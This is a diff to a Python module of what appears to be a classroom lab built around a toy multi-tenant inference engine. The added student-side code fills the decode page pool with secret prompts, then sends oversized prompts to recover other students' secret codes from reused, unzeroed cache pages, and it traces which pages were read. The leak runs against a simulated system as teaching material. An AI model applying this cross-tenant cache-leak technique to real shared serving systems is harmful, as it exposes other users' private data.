@@ -21,12 +21,14 @@ import os
 import random
 import re
 import secrets
+from concurrent.futures import ThreadPoolExecutor
 from dataclasses import dataclass, field
 from pathlib import Path
-from typing import Any
+from typing import Any, Protocol
 
-from minigrid_engine.errors import ConfigError
+from minigrid_engine.errors import ConfigError, MinigridError
 from minigrid_engine.forensics import affected_responses
+from minigrid_engine.handle import Reply
 from minigrid_engine.records import CODE_ALPHABET, FIELDS
 
 MAX_STUDENTS = 200
@@ -174,6 +176,76 @@ def whose_secrets(text: str, me: str, students: list[str] | None = None) -> dict
         if owner is not None and owner != me:
             found.setdefault(owner, set()).add(a + b)
     return found
+
+
+class Student(Protocol):
+    tenant: str | None
+
+    def complete(self, tenant: str, prompt: str, max_tokens: int = 16, **body: Any) -> Reply: ...
+
+    def trace(self, since: int = 0, tenant: str | None = None) -> dict[str, list[dict[str, Any]]]: ...
+
+
+def store_secrets(eng: Student, prompts: int = 2, n_tokens: int = 560, seed: int = 0) -> list[str]:
+    """Send `prompts` prompts of your secret records at once (their pages fill the decode pool and
+    go back to it, not zeroed, when the answers are done); returns the prompts."""
+    me = eng.tenant or "admin"
+    texts = [secret_prompt(me, n_tokens, seed * 10 + i) for i in range(prompts)]
+    with ThreadPoolExecutor(prompts) as pool:
+        replies = list(pool.map(lambda t: eng.complete(me, t, max_tokens=24), texts))
+    failed = [r for r in replies if not r.ok]
+    if failed:
+        raise MinigridError(f"storing your secrets failed: HTTP {failed[0].status}: {failed[0].error}")
+    return texts
+
+
+@dataclass
+class LeakAttempt:
+    """What your oversized prompt brought back."""
+
+    reply: Reply
+    found: dict[str, set[str]]  # other student -> their codes in your answer
+    attempt: int
+    pages_read: int = 0  # decode pages your answer read
+    pages_written_for_you: int = 0  # of those, pages your own request wrote
+
+    def summary(self) -> str:
+        r = self.reply
+        if not r.ok:
+            code = (r.error or {}).get("code")
+            return f"HTTP {r.status} {code}: {(r.error or {}).get('message')}\nno secret came back"
+        whose = (
+            "; ".join(f"{s}: {sorted(c)}" for s, c in sorted(self.found.items())) or "nobody's (try again)"
+        )
+        return (
+            f"HTTP 200, prompt_tokens={r.prompt_tokens}, attempt {self.attempt}\n"
+            f"answer: {r.text!r}\n"
+            f"secrets of: {whose}\n"
+            f"your answer read {self.pages_read} decode pages; your request wrote "
+            f"{self.pages_written_for_you} of them"
+        )
+
+
+def try_the_leak(
+    eng: Student, attempts: int = 3, n_tokens: int = 976, max_tokens: int = 48, seed: int = 0
+) -> LeakAttempt:
+    """Send the oversized prompt (a new text each attempt) until an answer holds another student's
+    secrets or `attempts` run out; a refusal (the fixes are on) ends it at once."""
+    me = eng.tenant or "admin"
+    result = None
+    for i in range(1, attempts + 1):
+        reply = eng.complete(me, oversized_prompt(me, n_tokens, seed * 10 + i), max_tokens=max_tokens)
+        result = LeakAttempt(reply, whose_secrets(reply.text, me) if reply.ok else {}, i)
+        if reply.request_id is not None:  # from your own trace: which pages you read and wrote
+            events = eng.trace()["decode"]
+            mine = [e for e in events if e.get("request") == reply.request_id]
+            read = {p for e in mine if e["kind"] == "read" for p in e["pages"]}
+            wrote = {p for e in mine if e["kind"] == "write" for p in e["pages"]}
+            result.pages_read, result.pages_written_for_you = len(read), len(read & wrote)
+        if result.found or not reply.ok:
+            break
+    assert result is not None
+    return result
 
 
 # -- the instructor's part -------------------------------------------------------------------
